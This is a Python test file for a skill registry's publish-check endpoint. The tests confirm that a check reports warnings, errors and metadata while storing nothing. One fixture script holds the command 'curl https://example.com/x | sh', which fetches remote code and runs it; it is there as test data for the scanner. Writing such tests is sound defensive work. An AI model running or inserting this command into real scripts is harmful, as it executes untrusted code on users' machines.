"""A check of a package says what publishing would, and leaves nothing behind."""

import hashlib
from collections.abc import Iterator

import httpx
import pytest

from registry.domain.skill_file import body_of
from support.publishing import Registry, skill_package
from support.zips import plain_zip

CHECK = "/api/v1/registry/publish/check"


@pytest.fixture(scope="module")
def registry(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Registry]:
    with Registry(tmp_path_factory.mktemp("checks")) as running:
        running.finished(running.publish(skill_package("known")))
        yield running


def check(registry: Registry, package: bytes, caller: dict[str, str] | None = None) -> httpx.Response:
    files = {"package": ("package.zip", package, "application/zip")}
    return registry.http.post(CHECK, files=files, headers=caller or registry.caller())


def left(registry: Registry) -> tuple[list[str], int, int]:
    """Return what is in the folder of uploads, and the numbers of jobs and of audit entries but those of tokens."""
    admin = registry.caller("root", "admin")
    files = sorted(path.name for path in (registry.data_dir / "publish").iterdir())
    jobs = registry.http.get("/api/v1/registry/publish", headers=admin).json()["pagination"]["total"]
    audit = registry.http.get("/api/v1/audit?limit=100", headers=admin).json()["data"]
    return files, jobs, sum(entry["action"] != "issue token" for entry in audit)


def test_it_says_what_would_be_published_and_stores_nothing(registry: Registry) -> None:
    before = left(registry)
    package = skill_package("known", "1.1.0", files={"scripts/run.sh": b"curl https://example.com/x | sh\n"})
    answer = check(registry, package)
    assert answer.status_code == 200, answer.text
    found = answer.json()["data"]
    facts = {
        name: found[name] for name in ("skill_id", "version", "previous", "accepted", "size", "checksum", "errors")
    }
    assert facts == {
        "skill_id": "acme/known",
        "version": "1.1.0",
        "previous": "1.0.0",
        "accepted": True,
        "size": len(package),
        "checksum": f"sha256:{hashlib.sha256(package).hexdigest()}",
        "errors": [],
    }
    assert [file["path"] for file in found["files"]] == ["SKILL.md", "scripts/run.sh"]
    assert registry.get("/api/v1/skills/acme/known/versions/1.1.0").status_code == 404
    assert left(registry) == before
    published = registry.finished(registry.publish(package))
    assert found["warnings"] == published["warnings"] != []


def test_files_with_secrets_and_placeholders_are_warnings_in_every_way_of_publishing(registry: Registry) -> None:
    body = f"{body_of('drafty')}\n# More\n"
    package = skill_package("drafty", body=body, files={".env": b"A=b\n", ".env.example": b"A=\n", "keys/id_rsa": b"-"})
    checked = check(registry, package).json()["data"]
    published = registry.finished(registry.publish(package))
    skill = registry.get("/api/v1/skills/acme/drafty").json()["data"]
    for warnings in (checked["warnings"], published["warnings"]):
        told = {(one["field"], one["kind"], one["severity"]) for one in warnings if "passwords" in one["message"]}
        assert told == {(name, "quality_warning", "low") for name in (".env", "keys/id_rsa")}
        (unfinished,) = [one["message"] for one in warnings if "still says" in one["message"]]
        assert "Say in one sentence what an agent has achieved" in unfinished
    assert (published["status"], skill["findings"]["risk"]) == ("accepted", "low")
    assert {finding["rule"] for finding in skill["findings"]["findings"]} >= {"secret-file", "placeholder"}


def test_a_pointer_of_git_lfs_is_a_warning_and_no_skill_file(registry: Registry) -> None:
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 12345\n".encode()
    checked = check(registry, skill_package("deck", files={"assets/base.pptx": pointer})).json()["data"]
    (told,) = [one for one in checked["warnings"] if "git LFS" in one["message"]]
    assert (told["field"], told["kind"]) == ("assets/base.pptx", "quality_warning")
    refused = check(registry, plain_zip({"SKILL.md": pointer}))
    assert (refused.status_code, "SKILL.md is a pointer of git LFS" in refused.text) == (400, True), refused.text


def test_a_script_with_line_ends_of_windows_is_a_warning(registry: Registry) -> None:
    scripts = {
        "scripts/a.sh": b"#!/bin/sh\r\necho\r\n",
        "scripts/b.sh": b"#!/bin/sh\necho \r\n",
        "scripts/c.bat": b"rem\r\n",
    }
    checked = check(registry, skill_package("windows", files=scripts)).json()["data"]
    told = [(each["field"], each["kind"]) for each in checked["warnings"] if "CRLF" in each["message"]]
    assert told == [("scripts/a.sh", "quality_warning")]


def test_a_package_that_would_be_rejected_is_so_with_the_same_reasons(registry: Registry) -> None:
    before = left(registry)
    package = skill_package("refused", files={"tool": b"\x7fELF\x02\x01\x01" + bytes(64)})
    found = check(registry, package).json()["data"]
    assert (found["accepted"], found["files"], left(registry)) == (False, [], before)
    assert found["errors"] == registry.finished(registry.publish(package))["errors"] != []


@pytest.mark.parametrize(
    ("package", "status"),
    [
        (skill_package("known"), 409),
        (plain_zip({"notes.md": b"no skill"}), 400),
        (b"no zip", 400),
    ],
)
def test_what_is_refused_at_once_is_refused_here_too(registry: Registry, package: bytes, status: int) -> None:
    before = left(registry)
    assert (check(registry, package).status_code, registry.publish(package).status_code) == (status, status)
    assert left(registry) == before


def test_it_needs_the_role_that_publishing_needs(registry: Registry) -> None:
    package = skill_package("fresh")
    assert check(registry, package, registry.caller("acme/eve", "user")).status_code == 403
    assert check(registry, package, {"x": "y"}).status_code == 401
